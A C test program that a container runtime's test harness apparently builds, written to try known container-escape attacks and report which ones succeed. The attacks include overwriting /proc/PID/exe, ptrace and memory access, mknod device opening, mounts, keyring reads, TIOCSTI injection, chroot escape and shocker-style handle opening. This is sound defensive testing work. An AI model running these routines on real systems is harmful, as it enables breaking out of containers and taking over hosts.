/* SPDX-License-Identifier: Apache-2.0 */
/* What hostile programs do inside a container, one attack a name. Each prints what it got, and
 * nothing where it got nothing. Built static by harness/targets.py; not part of Kogge. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* Whether /proc/PID is one of the runtime's own programs. */
static int is_kogge(const char *pid)
{
	char path[300], text[64] = "";
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/comm", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0 || read(fd, text, sizeof(text) - 1) < 0)
		text[0] = 0;
	close(fd);
	return strncmp(text, "kogge", 5) == 0 || strstr(text, "stage") != NULL;
}

/* Whether FD is a program of the container's own. */
static int is_own(int fd)
{
	static const char *const own[] = {"/bin/busybox", "/bin/attack"};
	struct stat a, b;

	for (int i = 0; i < 2; i++)
		if (fstat(fd, &a) == 0 && stat(own[i], &b) == 0 && a.st_dev == b.st_dev &&
		    a.st_ino == b.st_ino)
			return 1;
	return 0;
}

/* E03: writes the program of whoever joins: opens /proc/PID/exe, and again for writing. */
static void try_exe(const char *pid)
{
	char path[300];
	int fd, w;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return;
	if (is_own(fd)) {
		close(fd);
		return;
	}
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; i < 50; i++) {
		w = open(path, O_WRONLY);
		if (w >= 0) {
			printf("wrote the program of %s\n", pid);
			close(w);
			break;
		}
	}
	close(fd);
}

/* E04: takes descriptors and memory of whoever joins, before it has become the user's program. */
static void try_trace(const char *pid)
{
	static const char *const links[] = {"exe", "cwd", "root", "fd/0", "fd/3", "fd/4", "ns/mnt"};
	char path[300], text[300];
	int fd;

	if (!is_kogge(pid))
		return;
	/* The names of its descriptors may be listed by its user; what they are may not */
	for (size_t i = 0; i < sizeof(links) / sizeof(*links); i++) {
		snprintf(path, sizeof(path), "/proc/%s/%s", pid, links[i]);
		if (readlink(path, text, sizeof(text)) >= 0 && is_kogge(pid))
			printf("read %s\n", path);
	}
	snprintf(path, sizeof(path), "/proc/%s/mem", pid);
	fd = open(path, O_RDWR);
	if (fd >= 0 && is_kogge(pid))
		printf("opened %s\n", path);
	close(fd);
	if (ptrace(PTRACE_SEIZE, atoi(pid), 0, 0) == 0) {
		if (is_kogge(pid))
			printf("traces %s\n", pid);
		/* Only one that stands can be let go; one that is not waits for us at its end. */
		ptrace(PTRACE_INTERRUPT, atoi(pid), 0, 0);
		waitpid(atoi(pid), NULL, __WALL);
		ptrace(PTRACE_DETACH, atoi(pid), 0, 0);
	}
}

static int joiners(double seconds, void (*attack)(const char *))
{
	double end = now() + seconds;
	char self[16], seen[64] = "";

	snprintf(self, sizeof(self), "%d", getpid());
	printf("ready\n");
	fflush(stdout);
	while (now() < end && access("/stop", F_OK) != 0) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		while (d && (e = readdir(d)) != NULL) {
			if (e->d_name[0] < '0' || e->d_name[0] > '9' || !strcmp(e->d_name, self) ||
			    !strcmp(e->d_name, "1"))
				continue;
			snprintf(seen, sizeof(seen), "%.60s", e->d_name);
			attack(e->d_name);
		}
		if (d)
			closedir(d);
	}
	printf("saw %s\n", seen);
	return 0;
}

/* E08, E09: exchanges A and B for ever. */
static int swap(const char *a, const char *b, double seconds)
{
	double end = now() + seconds;

	while (now() < end)
		for (int i = 0; i < 100; i++)
			syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */);
	return 0;
}

/* E24: makes and opens every device. */
static int devices(void)
{
	for (int type = 0; type < 2; type++)
		for (unsigned major = 0; major < 512; major++)
			for (unsigned minor = 0; minor < (major == 10 ? 256U : 16U); minor++) {
				int fd;

				if (major == 10 && minor == 130) /* a watchdog is best left alone */
					continue;
				unlink("/tmp/node");
				if (mknod("/tmp/node", (type ? S_IFBLK : S_IFCHR) | 0600,
					  makedev(major, minor)) < 0) {
					if (major == 0 && minor == 0)
						continue;
					printf("no mknod: %s\n", strerror(errno));
					return 0;
				}
				fd = open("/tmp/node", O_RDONLY | O_NONBLOCK | O_NOCTTY);
				if (fd >= 0)
					printf("%c%u:%u\n", type ? 'b' : 'c', major, minor);
				close(fd);
			}
	return 0;
}

/* E25: opens every file below /proc and /sys for writing. Processes' own folders are left out. */
static int visit(const char *path, const struct stat *st, int kind, struct FTW *f)
{
	int fd;

	if (kind == FTW_D && strncmp(path, "/proc/", 6) == 0 && path[6] >= '0' && path[6] <= '9')
		return FTW_SKIP_SUBTREE;
	if (kind != FTW_F || !S_ISREG(st->st_mode))
		return FTW_CONTINUE;
	fd = open(path, O_WRONLY | O_NONBLOCK | O_NOCTTY);
	if (fd >= 0)
		printf("%s\n", path);
	close(fd);
	return FTW_CONTINUE;
}

static int crawl(void)
{
	nftw("/proc", visit, 32, FTW_PHYS | FTW_ACTIONRETVAL);
	nftw("/sys", visit, 32, FTW_PHYS | FTW_ACTIONRETVAL);
	return 0;
}

/* E26, E27, E25: mounts and unmounts. */
static int mounts(void)
{
	static const char *const types[] = {"proc",   "sysfs",  "tmpfs",   "cgroup",  "cgroup2",
					    "devpts", "mqueue", "debugfs", "tracefs", "securityfs",
					    "bpf",    "ext4",   "overlay", "ramfs"};
	char dir[] = "/tmp/mXXXXXX";

	if (!mkdtemp(dir))
		return 1;
	for (size_t i = 0; i < sizeof(types) / sizeof(*types); i++) {
		const char *data = strcmp(types[i], "cgroup") == 0 ? "memory" : NULL;

		if (mount("none", dir, types[i], 0, data) == 0)
			printf("mounted %s\n", types[i]);
		else if (errno != EPERM && errno != EACCES)
			printf("%s: %s\n", types[i], strerror(errno));
	}
	if (mount("/", dir, NULL, MS_BIND, NULL) == 0)
		printf("bound /\n");
	if (mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
		printf("remounted /proc/sys\n");
	if (umount2("/proc/keys", MNT_DETACH) == 0 || umount2("/proc/sys", MNT_DETACH) == 0)
		printf("unmounted a mask\n");
	if (unshare(CLONE_NEWNS) == 0)
		printf("new mount namespace\n");
	return 0;
}

/* E31: keys of the caller's session. */
static int keys(const char *id)
{
	char text[256] = "";
	long n = syscall(SYS_keyctl, 11 /* READ */, atol(id), text, sizeof(text) - 1, 0);
	long found;

	if (n >= 0)
		printf("read %s\n", text);
	found = syscall(SYS_keyctl, 10 /* SEARCH */, -3 /* session */, "user", "kogge-e2e", 0);
	if (found >= 0)
		printf("found %ld\n", found);
	if (syscall(SYS_keyctl, 8 /* LINK */, atol(id), -3, 0, 0) == 0)
		printf("linked\n");
	return 0;
}

/* E32: types into the terminal that is descriptor 0. */
static int type_in(void)
{
	char sub = 3; /* TIOCL_PASTESEL */

	if (ioctl(0, TIOCSTI, "x") == 0)
		printf("typed\n");
	if (ioctl(0, TIOCLINUX, &sub) == 0)
		printf("pasted\n");
	if (ioctl(0, TIOCSCTTY, 1) == 0)
		printf("took the terminal\n");
	fflush(stdout);
	return 0;
}

/* E28 to E30: the calls in ARGV by every way into the kernel; prints those that are not refused. */
static int calls(int n, char **names)
{
	for (int i = 0; i < n; i++) {
		long number = atol(names[i]);
		long r;

		errno = 0;
		r = syscall(number, -1L, -1L, -1L, -1L, -1L, -1L);
		printf("%ld %s\n", number, r < 0 ? strerrorname_np(errno) : "done");
#ifdef __x86_64__
		errno = 0;
		r = syscall(number | 0x40000000, -1L, -1L, -1L, -1L, -1L, -1L);
		printf("x32:%ld %s\n", number, r < 0 ? strerrorname_np(errno) : "done");
#endif
	}
	return 0;
}

/* E28: mkdir of i386 by int 0x80. */
static int int80(void)
{
#ifdef __x86_64__
	char *low =
		(char *)syscall(SYS_mmap, 0x10000, 4096, 3, 0x32 /* FIXED PRIVATE ANON */, -1, 0);
	long r;

	if ((long)low < 0)
		return 1;
	strcpy(low, "/made-by-i386");
	__asm__ volatile("int $0x80"
			 : "=a"(r)
			 : "a"(39L), "b"(low), "c"(0755L)
			 : "memory", "r8", "r9", "r10", "r11");
	printf(r == 0 ? "made\n" : "refused %ld\n", -(long)(int)r);
#endif
	return 0;
}

/* E30, E38: new namespaces. */
static int namespaces(void)
{
	static const struct {
		const char *name;
		int flag;
	} all[] = {{"user", CLONE_NEWUSER},    {"mnt", CLONE_NEWNS},  {"pid", CLONE_NEWPID},
		   {"net", CLONE_NEWNET},      {"ipc", CLONE_NEWIPC}, {"uts", CLONE_NEWUTS},
		   {"cgroup", CLONE_NEWCGROUP}};

	for (size_t i = 0; i < sizeof(all) / sizeof(*all); i++) {
		pid_t pid = fork();
		int status = 0;

		if (pid == 0)
			_exit(unshare(all[i].flag) == 0 ? 0 : 1);
		waitpid(pid, &status, 0);
		if (status == 0)
			printf("%s\n", all[i].name);
	}
	return 0;
}

/* The classic way out of a chroot. */
static int escape(void)
{
	int fd = open("/", O_RDONLY);
	struct stat a, b;

	mkdir("/tmp/jail", 0755);
	if (chroot("/tmp/jail") < 0 || fchdir(fd) < 0)
		return 0;
	for (int i = 0; i < 100; i++)
		if (chdir("..") < 0)
			break;
	if (chroot(".") < 0 || stat("/", &a) < 0 || fstat(fd, &b) < 0)
		return 0;
	if (a.st_dev != b.st_dev || a.st_ino != b.st_ino)
		printf("escaped\n");
	if (access("/host-canary", F_OK) == 0)
		printf("the host's root\n");
	return 0;
}

/* Opens files of the root's file system by handle, which no path leads to (as "shocker" did). */
static int handles(void)
{
	union {
		struct file_handle h;
		char space[sizeof(struct file_handle) + 8];
	} u = {.h = {.handle_bytes = 8, .handle_type = 1}};
	int root = open("/", O_RDONLY), fd;
	uint32_t ino = 2;

	memcpy(u.h.f_handle, &ino, sizeof(ino));
	fd = open_by_handle_at(root, &u.h, O_RDONLY);
	if (fd >= 0)
		printf("opened the file system's root\n");
	return 0;
}

/* E23: who this has become. */
static int who(void)
{
	struct {
		uint32_t version;
		int pid;
	} head = {0x20080522, 0};
	uint32_t data[6] = {0};

	syscall(SYS_capget, &head, data);
	printf("%u %x ", geteuid(), data[0]);
	return 0;
}

int main(int argc, char **argv)
{
	const char *name = argc > 1 ? argv[1] : "";

	if (!strcmp(name, "exe"))
		return joiners(30, try_exe);
	if (!strcmp(name, "trace"))
		return joiners(30, try_trace);
	if (!strcmp(name, "who"))
		return who();
	if (!strcmp(name, "swap") && argc > 4)
		return swap(argv[2], argv[3], atof(argv[4]));
	if (!strcmp(name, "devices"))
		return devices();
	if (!strcmp(name, "crawl"))
		return crawl();
	if (!strcmp(name, "mounts"))
		return mounts();
	if (!strcmp(name, "keys") && argc > 2)
		return keys(argv[2]);
	if (!strcmp(name, "type"))
		return type_in();
	if (!strcmp(name, "calls"))
		return calls(argc - 2, argv + 2);
	if (!strcmp(name, "int80"))
		return int80();
	if (!strcmp(name, "namespaces"))
		return namespaces();
	if (!strcmp(name, "escape"))
		return escape();
	if (!strcmp(name, "handles"))
		return handles();
	return 2;
}
